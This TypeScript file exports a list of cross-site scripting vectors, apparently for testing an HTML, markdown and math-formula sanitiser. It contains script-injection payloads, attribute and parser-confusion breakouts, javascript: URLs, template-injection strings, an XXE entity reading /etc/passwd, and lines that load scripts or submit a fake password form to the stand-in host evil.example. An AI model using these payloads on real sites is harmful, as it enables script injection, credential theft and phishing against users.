/** Vectors that are known from the cheat sheets and from the sanitisers' own bug lists: what someone puts into a text to be run by its readers. */
export const XSS_VECTORS: readonly string[] = [
  // Scripts, whole and mangled.

  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/src="//evil.example">',

  '<script type=module>import("//evil.example")</script>',
  '<script\u000balert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//',
  '</script><script>alert(1)</script>',
  '<script ~~~>alert(1)</script ~~~>',
  '<<script>alert(1)//<</script>',
  '<script x> alert(1) </script 1=2',
  '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',

  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/>',
  '<svg><script xlink:href=//evil.example></script>',

  '<math><script>alert(1)</script></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  // Handlers.

  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" />',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror\u0009=alert(1)>',

  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=1 href=1 onerror="javascript:alert(1)">',

  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg\nonload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributename=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',

  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style>{font-family:"<img/src=x onerror=alert(1)>"}</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',

  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<body onhashchange=alert(1)><a href=#x>x</a>',

  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',

  '<video onerror=alert(1)><source>',
  '<video src=_ onloadstart=alert(1)>',
  '<video poster=javascript:alert(1)//>',
  '<audio src onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div onpointerover=alert(1)>x</div>',
  '<p onmouseover=alert(1)>x',

  '<b onclick=alert(1)>x</b>',
  '<em ondblclick=alert(1)>x</em>',
  '<td onmouseenter=alert(1)>',
  '<div contenteditable onblur=alert(1)>x',

  '<div style="animation-name:x" onanimationstart=alert(1)>',
  '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend=alert(1)>',

  '<xss onbeforetoggle=alert(1) popover id=x>',
  '<button popovertarget=x>x</button>',
  '<object onerror=alert(1)>',
  '<dialog open onclose=alert(1)>',
  // Addresses.

  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',

  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',

  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a target=_blank href=https://evil.example>x</a>',

  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))',

  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](javascript://%0aalert(1))',

  '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://evil.example>',
  '[x](//evil.example)',
  'https://evil.example',

  '[a](j    a   v   a   s   c   r   i   p   t:alert(1))',
  '[x](javascript:window.onerror=alert;throw%201)',
  '[x](x "onmouseover=alert(1)")',
  '[<img src=x onerror=alert(1)>](x)',
  // Images.

  '![x](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '![x](//evil.example/x.png)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',

  '![x](image:fig "onerror=alert(1)")',
  '![" onerror="alert(1)](image:fig)',
  "![' onerror='alert(1)](image:fig)",
  '![x](image:fig&quot;onerror=alert(1))',

  '![x](image:../../secret)',
  '![x](image:fig?x=1)',
  '![x](image:fig#x)',
  '![x](image://evil.example)',
  '![x](IMAGE:fig)',
  '![x](blob:https://evil.example/1)',

  '![x][i]\n\n[i]: https://evil.example/x.png',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<picture><source srcset=//evil.example>',

  '<input type=image src=//evil.example onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<image href=javascript:alert(1)>',
  '<img lowsrc="javascript:alert(1)">',
  // Frames, forms, documents.

  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example>',
  '<frameset><frame src=javascript:alert(1)>',

  '<object data="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<embed src=//evil.example/x.swf>',

  '<applet code=x>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=b">',

  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example>',
  '<link rel=preload as=script href=//evil.example>',
  '<link rel="prefetch" href="//evil.example">',

  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x',
  '<isindex action=javascript:alert(1) type=submit>',

  '<input type=password name=p>',
  '<form action=//evil.example><input name=password type=password><button>Sign in</button></form>',
  '<textarea name=x></textarea>',
  // Styles.

  '<style>*{background:url(//evil.example)}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',

  '<div style="position:fixed;inset:0;z-index:99999">x</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">',
  '<p style="behavior:url(#default#time2)">',
  '<xss style="xss:expr/*XSS*/ession(alert(1))">',

  '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x',
  '<div style="content:url(//evil.example)">',
  '<font color="red;background:url(//evil.example)">',
  // Parsers that disagree.

  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',

  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',

  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',

  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',

  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
  '<?php echo 1 ?>',
  '<% alert(1) %>',
  '<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',

  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></a>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',

  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3e',

  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '‹script›alert(1)‹/script›',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2028<script>alert(1)</script>',
  '<img src=x onerror=alert`1`>',
  // Out of an attribute, out of a script, into a template.

  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '`onmouseover=alert(1)',
  '"><svg/onload=alert(1)>',
  '--></script><script>alert(1)</script>',

  "';alert(1);//",
  '\\";alert(1);//',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '*/alert(1)/*',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  // DOM clobbering, and names that code might trip over.

  '<img name=getElementById>',
  '<form id=document><input name=cookie>',
  '<a id=location href="javascript:alert(1)">',
  '<b id=__proto__>',
  '<p class="table-scroll" tabindex=1>x',
  '__proto__',
  'constructor',
  '<div data-action="javascript:alert(1)">',
  // Formulas.

  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlStyle{background:url(//evil.example)}{x}$',
  '$\\htmlClass{x}{y}$',
  '$\\htmlId{x}{y}$',

  '$\\htmlData{x=1}{y}$',
  '$\\style{background:url(//evil.example)}{x}$',
  '$\\class{x}{y}$',
  '$\\cssId{x}{y}$',
  '$\\color{red;background:url(//evil.example)}{x}$',
  '$\\colorbox{#fff;position:fixed}{x}$',

  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\text{"><script>alert(1)</script>}$',
  '$\\unicode{x3c}script>$',
  '$<script>alert(1)</script>$',
  '$\\mathrm{\\char"3C script}$',
  '$\\tag{<script>}$',
  '$\\label{x"onclick="alert(1)}$',
  // Markdown that carries HTML on.

  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> |\n|---|\n| x |',
  '|a|\n|:-:" onclick="alert(1)|\n|b|',
  '1. <img src=x onerror=alert(1)>',

  '> <script>alert(1)</script>',
  '- <svg onload=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '\\<script>alert(1)\\</script>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '<a@b.c>',
  'www.evil.example',
  '"onload="alert(1)@evil.example',
]
